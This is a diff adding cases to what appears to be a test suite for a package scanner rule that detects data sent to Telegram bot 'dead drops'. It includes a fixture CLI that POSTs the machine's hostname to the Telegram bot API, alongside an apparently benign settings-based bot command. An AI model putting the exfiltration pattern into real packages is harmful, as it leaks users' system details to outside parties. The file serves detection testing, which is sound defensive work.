@@ -155,6 +155,15 @@ examine(sendsToDeadDrop, {
       weight: 'strong',
     },
     {
+      when: 'the token is a member of something that is no settings, where the environment has none',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const own = require('./own'); const token = process.env.TOKEN || own.token; fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+        'own.js': `exports.token = globalThis.specimen();`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the token is put into the environment by the package itself',
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
@@ -293,6 +302,13 @@ examine(sendsToDeadDrop, {
       when: 'the token of the environment goes to the bot API that its user runs, or to that of all bots, from a class that is made by a caller',
       files: {
         'index.js': `exports.Bot = class { constructor(token = process.env.TOKEN) { this.base = (process.env.BOT_API || 'https://${telegram}') + '/bot' + token } send(text) { return fetch(this.base + '/sendMessage', { method: 'POST', body: text }) } }`,
+      },
+    },
+    {
+      when: 'a command has the token of its bot from the environment, or else from settings of its user',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const fs = require('fs'); const settings = JSON.parse(fs.readFileSync(require('os').homedir() + '/.tell.json', 'utf8')); const token = process.env.TOKEN || settings.token; fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: settings.chat, text: process.argv[2] }) })`,
       },
     },
     {
